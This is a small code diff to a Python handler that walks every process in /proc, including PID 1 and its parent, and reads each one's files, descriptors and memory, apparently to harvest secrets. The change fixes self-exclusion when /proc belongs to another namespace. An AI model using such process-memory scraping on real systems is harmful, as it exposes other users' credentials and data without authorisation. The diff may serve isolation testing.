@@ -22,10 +22,12 @@ SECRETS = (
 
 def handler(event):
     got = []
+    # A /proc of other namespaces knows us by another number than we do.
+    own = {0, os.getpid(), int(os.readlink("/proc/self"))}
     for pid in sorted(
         {int(name) for name in os.listdir("/proc") if name.isdigit()} | {1, os.getppid()}
     ):
-        if pid not in (0, os.getpid()):
+        if pid not in own:
             got += read(pid) + follow(pid) + descriptors(pid) + memory(pid)
     return got
 
